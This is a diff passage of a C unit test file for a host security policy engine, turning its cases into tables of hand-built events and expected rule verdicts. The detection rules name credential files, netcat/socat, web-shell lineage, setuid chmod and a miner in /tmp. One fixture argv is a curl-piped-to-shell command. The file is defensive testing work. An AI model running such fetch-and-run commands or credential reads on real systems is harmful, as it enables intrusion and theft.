@@ -5,6 +5,10 @@
  * ancestry (through a test lineage, no process table), parse errors with
  * their positions, directory merging, counters, the normalized dump and the
  * JSON form.  Events are built by hand; no root needed.
+ *
+ * Most cases are rows of two tables: verdicts (a policy, then events as data
+ * and the rule each must get) and errors (a policy text and a message it
+ * must give).  One runner each.
  */
 #include <stdarg.h>
 #include <stddef.h>
@@ -24,6 +28,7 @@
 #include <json-c/json.h>
 #include "addr.h"
 #include "policy.h"
+#include "policy_int.h"
 #include "proctable.h"
 
 /* A tiny process tree for the lineage callbacks. */
@@ -67,6 +72,35 @@ static int setup_tree(void **state)
 	return 0;
 }
 
+/* Only vim(55), under init, with its command line. */
+static void tree_vim(void)
+{
+	nprocs = 0;
+	add_proc(55, 1, "/usr/bin/vim.basic", "vim");
+	procs[0].argv = "vim\0/etc/hosts\0";
+	procs[0].argv_len = 15;
+}
+
+/* A chain of 8 processes: root(100) <- 101 <- ... <- 107 */
+static void tree_chain(void)
+{
+	nprocs = 0;
+	add_proc(100, 1, "/usr/bin/root", "root");
+	for (uint32_t i = 101; i < 108; i++)
+		add_proc(i, i - 1, "/usr/bin/mid", "mid");
+}
+
+/* The chain with a loop: root's parent is 107. */
+static void tree_chain_loop(void)
+{
+	tree_chain();
+	procs[0].ppid = 107;
+}
+
+/* The other ends of stdio pipes. */
+static const struct proc_entry peer_curl = { .pid = 77, .comm = "curl", .exe = "/usr/bin/curl" };
+static const struct proc_entry peer_sh = { .pid = 78, .comm = "sh", .exe = "/usr/bin/dash" };
+
 static struct policy *load(const char *text)
 {
 	struct policy_diag d;
@@ -99,15 +133,6 @@ static char *load_fail(const char *text)
 	fclose(f);
 	policy_diag_fini(&d);
 	return buf;
-}
-
-static void expect_error(const char *text, const char *msg)
-{
-	char *out = load_fail(text);
-
-	if (!strstr(out, msg))
-		fail_msg("expected '%s' in:\n%s", msg, out);
-	free(out);
 }
 
 static struct sg_event ev_base(int type, uint32_t pid, const char *comm, const char *exe)
@@ -177,11 +202,141 @@ static const char *judge(const struct policy *p, struct sg_event *ev)
 	return ev->verdict.rule_id ? ev->verdict.rule_id : "-";
 }
 
+static char *dump(const struct policy *p);
+
 #define HDR "version: 1\nrules:\n"
 
-static void test_string_ops(void **state)
+/* ---- verdicts ------------------------------------------------------------ */
+
+/* A value an event spec sets only when told to (0 is a value too). */
+struct opt {
+	bool set;
+	int64_t v;
+};
+
+#define SET(x) { true, (x) }
+
+/*
+ * An event as data.  Built by ev_exec() (type 0 or exec), ev_net() (with an
+ * addr), ev_open() (with a path; then given its type) or ev_base() (the
+ * rest), then changed as the other members say.
+ */
+struct evspec {
+	int type;
+	uint32_t pid;
+	const char *exe;         /* exec: the program; ev_base(): proc.exe */
+	const char *comm;        /* ev_base(): comm; the others: replaces the builder's */
+	const char *argv;        /* exec: argv_len bytes */
+	size_t argv_len;
+	const char *path, *new_path;
+	bool write;
+	uint32_t flags, mode;
+	const char *addr;
+	uint16_t port;
+	int proto;
+	const char *proc_exe, *filename;
+	bool no_exe;             /* neither proc.exe nor exec.filename known */
+	struct opt uid, gid, ppid, result, has_result, sock_type, family;
+	const char *unix_path, *fileless, *via, *loader_target;
+	bool has_stdio;
+	int stdio[3];            /* enum sg_fdkind */
+	const struct proc_entry *peer[3];
+	uint32_t request;
+	const struct proc_entry *target;
+	void (*tree)(void);      /* another process tree, set up first */
+	bool no_lineage;         /* judged without a lineage */
+};
+
+#define EXEC(pid_, exe_, argv_, len_, ...)                                                         \
+	{ .pid = (pid_), .exe = (exe_), .argv = (argv_), .argv_len = (len_), __VA_ARGS__ }
+#define OPEN(pid_, path_, ...) { .type = SG_EV_OPEN, .pid = (pid_), .path = (path_), __VA_ARGS__ }
+#define FILEV(type_, path_, ...) { .type = (type_), .pid = 20, .path = (path_), __VA_ARGS__ }
+#define NET(type_, addr_, port_, proto_, ...)                                                      \
+	{ .type = (type_), .addr = (addr_), .port = (port_), .proto = (proto_), __VA_ARGS__ }
+
+static struct sg_event mkev(const struct evspec *s)
 {
-	struct policy *p = load(HDR
+	struct sg_event ev;
+
+	if (s->tree)
+		s->tree();
+	/* what differs by type is in a union: each builder's own members only */
+	if (!s->type || s->type == SG_EV_EXEC) {
+		ev = ev_exec(s->pid, s->exe, s->argv, s->argv_len);
+		if (s->filename)
+			ev.exec.filename = s->filename;
+		if (s->no_exe)
+			ev.proc.exe = ev.exec.filename = NULL;
+		ev.exec.fileless = s->fileless;
+		ev.exec.via = s->via;
+		ev.exec.loader_target = s->loader_target;
+		ev.exec.has_stdio = s->has_stdio;
+		for (int i = 0; i < 3; i++) {
+			ev.exec.stdio[i].kind = s->stdio[i];
+			ev.exec.stdio[i].peer = s->peer[i];
+		}
+	} else if (s->addr) {
+		ev = ev_net(s->type, s->addr, s->port, s->proto);
+		if (s->sock_type.set)
+			ev.net.sock_type = s->sock_type.v;
+		if (s->family.set)
+			ev.net.family = s->family.v;
+		ev.net.unix_path = s->unix_path;
+	} else if (s->path) {
+		ev = ev_open(s->pid, s->path, s->write, s->flags);
+		ev.type = s->type;
+		ev.file.new_path = s->new_path;
+		ev.file.mode = s->mode;
+	} else {
+		ev = ev_base(s->type, s->pid, s->comm, s->exe);
+		if (s->type == SG_EV_PTRACE) {
+			ev.ptrace.request = s->request;
+			ev.ptrace.target_entry = s->target;
+		}
+	}
+	if (s->comm)
+		snprintf(ev.proc.comm, sizeof(ev.proc.comm), "%s", s->comm);
+	if (s->proc_exe)
+		ev.proc.exe = s->proc_exe;
+	if (s->uid.set)
+		ev.proc.uid = s->uid.v;
+	if (s->gid.set)
+		ev.proc.gid = s->gid.v;
+	if (s->ppid.set)
+		ev.proc.ppid = s->ppid.v;
+	if (s->result.set)
+		ev.result = s->result.v;
+	if (s->has_result.set)
+		ev.has_result = s->has_result.v;
+	return ev;
+}
+
+/* One event and the verdict it must get. */
+struct judgement {
+	struct evspec ev;
+	const char *want;           /* the rule's id, "-" for none */
+	enum sg_action action;      /* SG_ACT_NONE: not checked */
+	enum sg_severity severity;  /* SG_SEV_NONE: not checked */
+};
+
+/* A policy and what it says of events, in order (the counters see all of them). */
+struct vcase {
+	const char *name;
+	const char *policy;
+	struct judgement j[20];     /* up to the first without .want */
+	bool stats;                 /* the counters after them must be st */
+	struct policy_stats st;
+	uint64_t dedup_window_ns;   /* 0: not checked */
+};
+
+static const char argv_curl[] = "sh\0-c\0curl -s http://x | sh\0";
+static const char argv_chmod[] = "chmod\0u+s\0/tmp/x\0";
+static const char argv_sh_i[] = "sh\0-i";
+
+static const struct vcase vcases[] = {
+{
+	.name = "string_ops",
+	.policy = HDR
 		"  - {id: in, events: [open], match: {file.path: /etc/shadow}, action: alert}\n"
 		"  - {id: pre, events: [open], match: {file.path: {prefix: /etc/cron}}, action: alert}\n"
 		"  - {id: suf, events: [open], match: {file.path: {suffix: [.pem, .key]}}, "
@@ -191,122 +346,73 @@ static void test_string_ops(void **state)
 		"action: alert}\n"
 		"  - {id: gl2, events: [open], match: {file.path: {glob: ['/srv/*', '*.bak', '*tmp*', "
 		"'/x/?', /exact]}}, action: alert}\n"
-		"  - {id: name, events: [open], match: {file.name: .bashrc}, action: alert}\n");
-	struct sg_event ev;
-
-	ev = ev_open(20, "/etc/shadow", false, 0);
-	assert_string_equal(judge(p, &ev), "in");
-	ev = ev_open(20, "/etc/shadowx", false, 0);
-	assert_string_equal(judge(p, &ev), "-");
-	ev = ev_open(20, "/etc/cron.d/job", true, O_WRONLY);
-	assert_string_equal(judge(p, &ev), "pre");
-	ev = ev_open(20, "/tmp/a.key", false, 0);
-	assert_string_equal(judge(p, &ev), "suf");
-	ev = ev_open(20, "/home/a/.ssh/id_rsa", false, 0);
-	assert_string_equal(judge(p, &ev), "con");
-	ev = ev_open(20, "/home/bob/.aws/credentials", false, 0);
-	assert_string_equal(judge(p, &ev), "gl1");
-	ev = ev_open(20, "/srv/a/b", false, 0);
-	assert_string_equal(judge(p, &ev), "gl2");
-	ev = ev_open(20, "/var/db.bak", false, 0);
-	assert_string_equal(judge(p, &ev), "gl2");
-	ev = ev_open(20, "/var/xtmpy", false, 0);
-	assert_string_equal(judge(p, &ev), "gl2");
-	ev = ev_open(20, "/x/y", false, 0);
-	assert_string_equal(judge(p, &ev), "gl2");
-	ev = ev_open(20, "/x/yy", false, 0);
-	assert_string_equal(judge(p, &ev), "-");
-	ev = ev_open(20, "/exact", false, 0);
-	assert_string_equal(judge(p, &ev), "gl2");
-	ev = ev_open(20, "/home/u/.bashrc", false, 0);
-	assert_string_equal(judge(p, &ev), "name");
-	policy_free(p);
-}
-
-static void test_proc_fields(void **state)
+		"  - {id: name, events: [open], match: {file.name: .bashrc}, action: alert}\n",
+	.j = {
+		{ OPEN(20, "/etc/shadow"), "in" },
+		{ OPEN(20, "/etc/shadowx"), "-" },
+		{ OPEN(20, "/etc/cron.d/job", .write = true, .flags = O_WRONLY), "pre" },
+		{ OPEN(20, "/tmp/a.key"), "suf" },
+		{ OPEN(20, "/home/a/.ssh/id_rsa"), "con" },
+		{ OPEN(20, "/home/bob/.aws/credentials"), "gl1" },
+		{ OPEN(20, "/srv/a/b"), "gl2" },
+		{ OPEN(20, "/var/db.bak"), "gl2" },
+		{ OPEN(20, "/var/xtmpy"), "gl2" },
+		{ OPEN(20, "/x/y"), "gl2" },
+		{ OPEN(20, "/x/yy"), "-" },
+		{ OPEN(20, "/exact"), "gl2" },
+		{ OPEN(20, "/home/u/.bashrc"), "name" },
+	},
+},
 {
-	struct policy *p = load(HDR
+	.name = "proc_fields",
+	.policy = HDR
 		"  - {id: exe, events: [exec], match: {proc.exe: /usr/bin/nc.openbsd}, action: alert}\n"
 		"  - {id: comm, events: [exec], match: {proc.comm: [ncat]}, action: alert}\n"
 		"  - {id: name, events: [exec], match: {proc.name: socat}, action: alert}\n"
 		"  - {id: uid, events: [exec], match: {proc.uid: [0, 5-9]}, action: alert}\n"
 		"  - {id: gid, events: [exec], match: {proc.gid: 42}, action: alert}\n"
 		"  - {id: pid, events: [exec], match: {proc.pid: 777}, action: alert}\n"
-		"  - {id: ppid, events: [exec], match: {proc.ppid: 10}, action: alert}\n");
-	struct sg_event ev;
-
-	ev = ev_exec(99, "/usr/bin/nc.openbsd", "nc\0", 3);
-	assert_string_equal(judge(p, &ev), "exe");
-	ev = ev_exec(99, "/usr/bin/ncat", "ncat\0", 5);
-	assert_string_equal(judge(p, &ev), "comm");
-	ev = ev_exec(99, "/usr/bin/socat", "x\0", 2);
-	assert_string_equal(judge(p, &ev), "name");
-	/* proc.name falls back on comm when the exe is unknown */
-	ev = ev_exec(99, "/usr/bin/other", "x\0", 2);
-	ev.proc.exe = NULL;
-	ev.exec.filename = NULL;
-	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "socat");
-	assert_string_equal(judge(p, &ev), "name");
-	ev = ev_exec(99, "/usr/bin/true", "x\0", 2);
-	ev.proc.uid = 7;
-	assert_string_equal(judge(p, &ev), "uid");
-	ev.proc.uid = 10;
-	assert_string_equal(judge(p, &ev), "-");
-	ev.proc.uid = 0;
-	assert_string_equal(judge(p, &ev), "uid");
-	ev.proc.uid = 1000;
-	ev.proc.gid = 42;
-	assert_string_equal(judge(p, &ev), "gid");
-	ev.proc.gid = 1000;
-	ev.proc.pid = 777;
-	assert_string_equal(judge(p, &ev), "pid");
-	ev.proc.pid = 778;
-	ev.proc.ppid = 10;
-	assert_string_equal(judge(p, &ev), "ppid");
-	policy_free(p);
-}
-
-static void test_argv(void **state)
+		"  - {id: ppid, events: [exec], match: {proc.ppid: 10}, action: alert}\n",
+	.j = {
+		{ EXEC(99, "/usr/bin/nc.openbsd", "nc\0", 3), "exe" },
+		{ EXEC(99, "/usr/bin/ncat", "ncat\0", 5), "comm" },
+		{ EXEC(99, "/usr/bin/socat", "x\0", 2), "name" },
+		/* proc.name falls back on comm when the exe is unknown */
+		{ EXEC(99, "/usr/bin/other", "x\0", 2, .no_exe = true, .comm = "socat"), "name" },
+		{ EXEC(99, "/usr/bin/true", "x\0", 2, .uid = SET(7)), "uid" },
+		{ EXEC(99, "/usr/bin/true", "x\0", 2, .uid = SET(10)), "-" },
+		{ EXEC(99, "/usr/bin/true", "x\0", 2, .uid = SET(0)), "uid" },
+		{ EXEC(99, "/usr/bin/true", "x\0", 2, .gid = SET(42)), "gid" },
+		{ EXEC(777, "/usr/bin/true", "x\0", 2), "pid" },
+		{ EXEC(778, "/usr/bin/true", "x\0", 2, .ppid = SET(10)), "ppid" },
+	},
+},
 {
-	static const char curl[] = "sh\0-c\0curl -s http://x | sh\0";
-	static const char chmod[] = "chmod\0u+s\0/tmp/x\0";
-	struct policy *p = load(HDR
+	.name = "argv",
+	.policy = HDR
 		"  - {id: pipe, events: [exec], match: {proc.argv: {arg: -c, contains: '| sh'}}, "
 		"action: alert}\n"
 		"  - {id: suid, events: [exec], match: {proc.argv: [u+s, '4755']}, action: alert}\n"
 		"  - {id: glob, events: [exec], match: {proc.argv: {glob: 'python* -c *'}}, "
 		"action: alert}\n"
 		"  - {id: whole, events: [exec], match: {proc.argv: {in: 'ls -la'}}, action: log}\n"
-		"  - {id: entry, events: [open], match: {proc.argv: {prefix: 'vim '}}, action: log}\n");
-	struct sg_event ev;
-
-	ev = ev_exec(99, "/usr/bin/dash", curl, sizeof(curl) - 1);
-	assert_string_equal(judge(p, &ev), "pipe");
-	ev = ev_exec(99, "/usr/bin/chmod", chmod, sizeof(chmod) - 1);
-	assert_string_equal(judge(p, &ev), "suid");
-	ev = ev_exec(99, "/usr/bin/python3.11", "python3\0-c\0print(1)\0", 21);
-	assert_string_equal(judge(p, &ev), "glob");
-	ev = ev_exec(99, "/usr/bin/ls", "ls\0-la\0", 7);
-	assert_string_equal(judge(p, &ev), "whole");
-	/* "u+s" is a whole argument: "au+s" is not */
-	ev = ev_exec(99, "/usr/bin/echo", "echo\0au+s\0", 10);
-	assert_string_equal(judge(p, &ev), "-");
-	/* no argv at all: nothing matches */
-	ev = ev_exec(99, "/usr/bin/echo", NULL, 0);
-	assert_string_equal(judge(p, &ev), "-");
-	/* other events take argv from the process entry */
-	nprocs = 0;
-	add_proc(55, 1, "/usr/bin/vim.basic", "vim");
-	procs[0].argv = "vim\0/etc/hosts\0";
-	procs[0].argv_len = 15;
-	ev = ev_open(55, "/etc/hosts", false, 0);
-	assert_string_equal(judge(p, &ev), "entry");
-	policy_free(p);
-}
-
-static void test_negation_and_ancestry(void **state)
+		"  - {id: entry, events: [open], match: {proc.argv: {prefix: 'vim '}}, action: log}\n",
+	.j = {
+		{ EXEC(99, "/usr/bin/dash", argv_curl, sizeof(argv_curl) - 1), "pipe" },
+		{ EXEC(99, "/usr/bin/chmod", argv_chmod, sizeof(argv_chmod) - 1), "suid" },
+		{ EXEC(99, "/usr/bin/python3.11", "python3\0-c\0print(1)\0", 21), "glob" },
+		{ EXEC(99, "/usr/bin/ls", "ls\0-la\0", 7), "whole" },
+		/* "u+s" is a whole argument: "au+s" is not */
+		{ EXEC(99, "/usr/bin/echo", "echo\0au+s\0", 10), "-" },
+		/* no argv at all: nothing matches */
+		{ EXEC(99, "/usr/bin/echo", NULL, 0), "-" },
+		/* other events take argv from the process entry */
+		{ OPEN(55, "/etc/hosts", .tree = tree_vim), "entry" },
+	},
+},
 {
-	struct policy *p = load(HDR
+	.name = "negation_and_ancestry",
+	.policy = HDR
 		"  - id: web-shell\n"
 		"    events: [exec]\n"
 		"    match:\n"
@@ -328,63 +434,38 @@ static void test_negation_and_ancestry(void **state)
 		"  - id: not-prefix\n"
 		"    events: [open]\n"
 		"    match: {file.path: {prefix: /etc/, not: {prefix: [/etc/ssl/, /etc/ld.so]}}}\n"
-		"    action: log\n");
-	struct sg_event ev;
-
-	ev = ev_exec(20, "/usr/bin/dash", "sh\0", 3);
-	assert_string_equal(judge(p, &ev), "web-shell");
-	ev = ev_exec(30, "/usr/bin/python3.11", "python3\0", 8);
-	assert_string_equal(judge(p, &ev), "py-under-sh");
-	/* cron's parent is nginx (10): not systemd */
-	ev = ev_exec(11, "/usr/sbin/cron", "cron\0", 5);
-	ev.proc.ppid = 10;
-	assert_string_equal(judge(p, &ev), "not-systemd");
-	ev.proc.ppid = 1;
-	assert_string_equal(judge(p, &ev), "-");
-	/* vi under nginx: some ancestor is under /usr/sbin/ */
-	ev = ev_exec(30, "/usr/bin/vi", "vi\0", 3);
-	assert_string_equal(judge(p, &ev), "-");
-	/* vi whose ancestors are unknown: no ancestor is under /usr/sbin/ */
-	ev = ev_exec(999, "/usr/bin/vi", "vi\0", 3);
-	ev.proc.ppid = 998;
-	assert_string_equal(judge(p, &ev), "no-anc");
-	ev = ev_open(20, "/etc/passwd", false, 0);
-	assert_string_equal(judge(p, &ev), "not-prefix");
-	ev = ev_open(20, "/etc/ssl/certs/x", false, 0);
-	assert_string_equal(judge(p, &ev), "-");
-	ev = ev_open(20, "/etc/ld.so.cache", false, 0);
-	assert_string_equal(judge(p, &ev), "-");
-	/* without a lineage, parents are unknown */
-	ev = ev_exec(20, "/usr/bin/dash", "sh\0", 3);
-	policy_eval_lineage(p, &ev, NULL);
-	assert_null(ev.verdict.rule_id);
-	policy_free(p);
-}
-
-static void test_ancestor_depth(void **state)
+		"    action: log\n",
+	.j = {
+		{ EXEC(20, "/usr/bin/dash", "sh\0", 3), "web-shell" },
+		{ EXEC(30, "/usr/bin/python3.11", "python3\0", 8), "py-under-sh" },
+		/* cron's parent is nginx (10): not systemd */
+		{ EXEC(11, "/usr/sbin/cron", "cron\0", 5, .ppid = SET(10)), "not-systemd" },
+		{ EXEC(11, "/usr/sbin/cron", "cron\0", 5, .ppid = SET(1)), "-" },
+		/* vi under nginx: some ancestor is under /usr/sbin/ */
+		{ EXEC(30, "/usr/bin/vi", "vi\0", 3), "-" },
+		/* vi whose ancestors are unknown: no ancestor is under /usr/sbin/ */
+		{ EXEC(999, "/usr/bin/vi", "vi\0", 3, .ppid = SET(998)), "no-anc" },
+		{ OPEN(20, "/etc/passwd"), "not-prefix" },
+		{ OPEN(20, "/etc/ssl/certs/x"), "-" },
+		{ OPEN(20, "/etc/ld.so.cache"), "-" },
+		/* without a lineage, parents are unknown */
+		{ EXEC(20, "/usr/bin/dash", "sh\0", 3, .no_lineage = true), "-" },
+	},
+},
 {
-	struct policy *p = load(HDR
-		"  - {id: deep, events: [exec], match: {ancestor.comm: root}, action: alert}\n");
-	struct sg_event ev;
-
-	/* a chain of 8 processes: root(100) <- 101 <- ... <- 107 */
-	nprocs = 0;
-	add_proc(100, 1, "/usr/bin/root", "root");
-	for (uint32_t i = 101; i < 108; i++)
-		add_proc(i, i - 1, "/usr/bin/mid", "mid");
-	ev = ev_exec(107, "/usr/bin/x", "x\0", 2);
-	assert_string_equal(judge(p, &ev), "deep");
-	/* a loop in the table ends the walk */
-	procs[0].ppid = 107;
-	ev = ev_exec(50, "/usr/bin/x", "x\0", 2);
-	ev.proc.ppid = 103;
-	assert_string_equal(judge(p, &ev), "deep");
-	policy_free(p);
-}
-
-static void test_match_any(void **state)
+	.name = "ancestor_depth",
+	.policy = HDR
+		"  - {id: deep, events: [exec], match: {ancestor.comm: root}, action: alert}\n",
+	.j = {
+		{ EXEC(107, "/usr/bin/x", "x\0", 2, .tree = tree_chain), "deep" },
+		/* a loop in the table ends the walk */
+		{ EXEC(50, "/usr/bin/x", "x\0", 2, .ppid = SET(103), .tree = tree_chain_loop),
+		  "deep" },
+	},
+},
 {
-	struct policy *p = load(HDR
+	.name = "match_any",
+	.policy = HDR
 		"  - id: tmp-exec\n"
 		"    events: [exec]\n"
 		"    match:\n"
@@ -394,58 +475,37 @@ static void test_match_any(void **state)
 		"  - id: suid\n"
 		"    events: [exec]\n"
 		"    match: {proc.name: chmod, proc.argv: {arg: ['*+*s*', '[2467][0-7][0-7][0-7]']}}\n"
-		"    action: alert\n");
-	struct sg_event ev;
-
-	ev = ev_exec(20, "/tmp/xmrig", "xmrig\0", 6);
-	assert_string_equal(judge(p, &ev), "tmp-exec");
-	/* a script: the exe is the interpreter, the filename is the script */
-	ev = ev_exec(20, "/usr/bin/dash", "sh\0", 3);
-	ev.exec.filename = "/dev/shm/x.sh";
-	assert_string_equal(judge(p, &ev), "tmp-exec");
-	ev.exec.filename = "/usr/local/bin/x.sh";
-	assert_string_equal(judge(p, &ev), "-");
-	ev = ev_exec(20, "/usr/bin/chmod", "chmod\0u+xs\0/tmp/x\0", 17);
-	assert_string_equal(judge(p, &ev), "suid");
-	ev = ev_exec(20, "/usr/bin/chmod", "chmod\0" "4755\0/tmp/x\0", 17);
-	assert_string_equal(judge(p, &ev), "suid");
-	ev = ev_exec(20, "/usr/bin/chmod", "chmod\0" "0755\0/tmp/x\0", 17);
-	assert_string_equal(judge(p, &ev), "-");
-	ev = ev_exec(20, "/usr/bin/chmod", "chmod\0u+x\0/tmp/x\0", 16);
-	assert_string_equal(judge(p, &ev), "-");
-	policy_free(p);
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: []}\n",
-		     "t.yaml:3:49: 'match' is an empty list");
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: [{}]}\n",
-		     "a 'match' entry has no conditions");
-}
-
-static void test_lists(void **state)
+		"    action: alert\n",
+	.j = {
+		{ EXEC(20, "/tmp/xmrig", "xmrig\0", 6), "tmp-exec" },
+		/* a script: the exe is the interpreter, the filename is the script */
+		{ EXEC(20, "/usr/bin/dash", "sh\0", 3, .filename = "/dev/shm/x.sh"), "tmp-exec" },
+		{ EXEC(20, "/usr/bin/dash", "sh\0", 3, .filename = "/usr/local/bin/x.sh"), "-" },
+		{ EXEC(20, "/usr/bin/chmod", "chmod\0u+xs\0/tmp/x\0", 17), "suid" },
+		{ EXEC(20, "/usr/bin/chmod", "chmod\0" "4755\0/tmp/x\0", 17), "suid" },
+		{ EXEC(20, "/usr/bin/chmod", "chmod\0" "0755\0/tmp/x\0", 17), "-" },
+		{ EXEC(20, "/usr/bin/chmod", "chmod\0u+x\0/tmp/x\0", 16), "-" },
+	},
+},
 {
-	struct policy *p = load("version: 1\n"
+	.name = "lists",
+	.policy = "version: 1\n"
 		"lists:\n"
 		"  shells: [/usr/bin/bash, /usr/bin/dash]\n"
 		"  more: [/usr/bin/zsh]\n"
 		"rules:\n"
 		"  - {id: a, events: [exec], match: {proc.exe: {in: [$shells, $more]}}, action: alert}\n"
-		"  - {id: b, events: [exec], match: {proc.exe: $$literal}, action: alert}\n");
-	struct sg_event ev;
-
-	ev = ev_exec(20, "/usr/bin/zsh", "zsh\0", 4);
-	assert_string_equal(judge(p, &ev), "a");
-	ev = ev_exec(20, "/usr/bin/dash", "sh\0", 3);
-	assert_string_equal(judge(p, &ev), "a");
-	ev = ev_exec(20, "/usr/bin/fish", "fish\0", 5);
-	assert_string_equal(judge(p, &ev), "-");
-	ev = ev_exec(20, "/x/$literal", "x\0", 2);
-	ev.proc.exe = "$literal";
-	assert_string_equal(judge(p, &ev), "b");
-	policy_free(p);
-}
-
-static void test_exceptions_order_defaults(void **state)
+		"  - {id: b, events: [exec], match: {proc.exe: $$literal}, action: alert}\n",
+	.j = {
+		{ EXEC(20, "/usr/bin/zsh", "zsh\0", 4), "a" },
+		{ EXEC(20, "/usr/bin/dash", "sh\0", 3), "a" },
+		{ EXEC(20, "/usr/bin/fish", "fish\0", 5), "-" },
+		{ EXEC(20, "/x/$literal", "x\0", 2, .proc_exe = "$literal"), "b" },
+	},
+},
 {
-	struct policy *p = load("version: 1\n"
+	.name = "exceptions_order_defaults",
+	.policy = "version: 1\n"
 		"defaults: {action: allow, severity: low}\n"
 		"rules:\n"
 		"  - id: cron\n"
@@ -459,89 +519,61 @@ static void test_exceptions_order_defaults(void **state)
 		"  - {id: second, events: [open], match: {file.path: {prefix: /etc/}}, action: log}\n"
 		"  - {id: off, events: [open], match: {file.path: /x}, action: alert, "
 		"enabled: false}\n"
-		"  - {id: nosev, events: [open], match: {file.path: /y}, action: alert}\n");
-	struct sg_event ev;
-
-	ev = ev_open(20, "/etc/cron.d/x", true, O_WRONLY);
-	assert_string_equal(judge(p, &ev), "cron");
-	assert_int_equal(ev.verdict.action, SG_ACT_ALERT);
-	assert_int_equal(ev.verdict.severity, SG_SEV_HIGH);
-	assert_int_equal(ev.verdict.repeat, 1);
-	assert_false(ev.verdict.enforced);
-	/* an exception: the next rule in order gets it */
-	ev.proc.exe = "/usr/bin/crontab";
-	assert_string_equal(judge(p, &ev), "second");
-	assert_int_equal(ev.verdict.action, SG_ACT_LOG);
-	/* an exception with two conditions needs both */
-	ev = ev_open(20, "/etc/cron.d/x", true, O_WRONLY);
-	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "ansible");
-	assert_string_equal(judge(p, &ev), "cron");
-	ev.proc.uid = 0;
-	assert_string_equal(judge(p, &ev), "second");
-	/* reading is not 'write' */
-	ev = ev_open(20, "/etc/cron.d/x", false, 0);
-	assert_string_equal(judge(p, &ev), "second");
-	/* disabled rules never match; unmatched events get the defaults */
-	ev = ev_open(20, "/x", false, 0);
-	assert_string_equal(judge(p, &ev), "-");
-	assert_int_equal(ev.verdict.action, SG_ACT_ALLOW);
-	assert_int_equal(ev.verdict.severity, SG_SEV_LOW);
-	/* a rule without a severity takes the default one */
-	ev = ev_open(20, "/y", false, 0);
-	assert_string_equal(judge(p, &ev), "nosev");
-	assert_int_equal(ev.verdict.severity, SG_SEV_LOW);
-	policy_free(p);
-
-	/* the built-in defaults: log, info */
-	p = load("version: 1\n");
-	ev = ev_open(20, "/x", false, 0);
-	assert_int_equal(policy_eval_lineage(p, &ev, NULL), SG_ACT_LOG);
-	assert_int_equal(ev.verdict.severity, SG_SEV_INFO);
-	assert_null(ev.verdict.rule_id);
-	assert_int_equal(policy_dedup_window_ns(p), 2000000000ull);
-	/* non-kernel types are always logged */
-	ev.type = SG_EV_MARK;
-	assert_int_equal(policy_eval_lineage(p, &ev, NULL), SG_ACT_LOG);
-	policy_free(p);
-}
-
-static void test_allow_and_exclude(void **state)
+		"  - {id: nosev, events: [open], match: {file.path: /y}, action: alert}\n",
+	.j = {
+		{ OPEN(20, "/etc/cron.d/x", .write = true, .flags = O_WRONLY), "cron", SG_ACT_ALERT,
+		  SG_SEV_HIGH },
+		/* an exception: the next rule in order gets it */
+		{ OPEN(20, "/etc/cron.d/x", .write = true, .flags = O_WRONLY,
+		       .proc_exe = "/usr/bin/crontab"), "second", SG_ACT_LOG },
+		/* an exception with two conditions needs both */
+		{ OPEN(20, "/etc/cron.d/x", .write = true, .flags = O_WRONLY, .comm = "ansible"),
+		  "cron" },
+		{ OPEN(20, "/etc/cron.d/x", .write = true, .flags = O_WRONLY, .comm = "ansible",
+		       .uid = SET(0)), "second" },
+		/* reading is not 'write' */
+		{ OPEN(20, "/etc/cron.d/x"), "second" },
+		/* disabled rules never match; unmatched events get the defaults */
+		{ OPEN(20, "/x"), "-", SG_ACT_ALLOW, SG_SEV_LOW },
+		/* a rule without a severity takes the default one */
+		{ OPEN(20, "/y"), "nosev", .severity = SG_SEV_LOW },
+	},
+},
 {
-	struct policy *p = load("version: 1\n"
+	/* the built-in defaults: log, info, 2 s */
+	.name = "builtin_defaults",
+	.policy = "version: 1\n",
+	.j = {
+		{ OPEN(20, "/x", .no_lineage = true), "-", SG_ACT_LOG, SG_SEV_INFO },
+		/* non-kernel types are always logged */
+		{ FILEV(SG_EV_MARK, "/x", .no_lineage = true), "-", SG_ACT_LOG },
+	},
+	.dedup_window_ns = 2000000000ull,
+},
+{
+	.name = "allow_and_exclude",
+	.policy = "version: 1\n"
 		"exclude:\n"
 		"  - {proc.comm: [systemd-journal, rsyslogd], event: [open, write]}\n"
 		"  - {file.path: {prefix: /proc/}}\n"
 		"rules:\n"
 		"  - {id: quiet, events: [open], match: {proc.comm: updatedb}, action: allow}\n"
-		"  - {id: all, events: [open, exec], action: alert}\n");
-	struct policy_stats st;
-	struct sg_event ev;
-
-	ev = ev_open(20, "/var/log/syslog", true, O_WRONLY);
-	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "rsyslogd");
-	assert_int_equal(policy_eval_lineage(p, &ev, &lineage), SG_ACT_ALLOW);
-	assert_null(ev.verdict.rule_id);
-	/* the exclusion names open events only */
-	ev = ev_exec(20, "/usr/sbin/rsyslogd", "rsyslogd\0", 9);
-	assert_string_equal(judge(p, &ev), "all");
-	ev = ev_open(20, "/proc/self/stat", false, 0);
-	assert_int_equal(policy_eval_lineage(p, &ev, &lineage), SG_ACT_ALLOW);
-	ev = ev_open(20, "/etc/x", false, 0);
-	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "updatedb");
-	assert_string_equal(judge(p, &ev), "quiet");
-	assert_int_equal(ev.verdict.action, SG_ACT_ALLOW);
-	ev = ev_open(20, "/etc/x", false, 0);
-	assert_string_equal(judge(p, &ev), "all");
-	policy_stats(p, &st);
-	assert_int_equal(st.evaluated, 5);
-	assert_int_equal(st.excluded, 2);
-	assert_int_equal(st.defaulted, 0);
-	policy_free(p);
-}
-
-static void test_files(void **state)
+		"  - {id: all, events: [open, exec], action: alert}\n",
+	.j = {
+		{ OPEN(20, "/var/log/syslog", .write = true, .flags = O_WRONLY, .comm = "rsyslogd"),
+		  "-", SG_ACT_ALLOW },
+		/* the exclusion names open events only */
+		{ EXEC(20, "/usr/sbin/rsyslogd", "rsyslogd\0", 9), "all" },
+		{ OPEN(20, "/proc/self/stat"), "-", SG_ACT_ALLOW },
+		{ OPEN(20, "/etc/x", .comm = "updatedb"), "quiet", SG_ACT_ALLOW },
+		{ OPEN(20, "/etc/x"), "all" },
+	},
+	.stats = true,
+	.st = { .evaluated = 5, .excluded = 2, .defaulted = 0 },
+},
 {
-	struct policy *p = load(HDR
+	.name = "files",
+	.policy = HDR
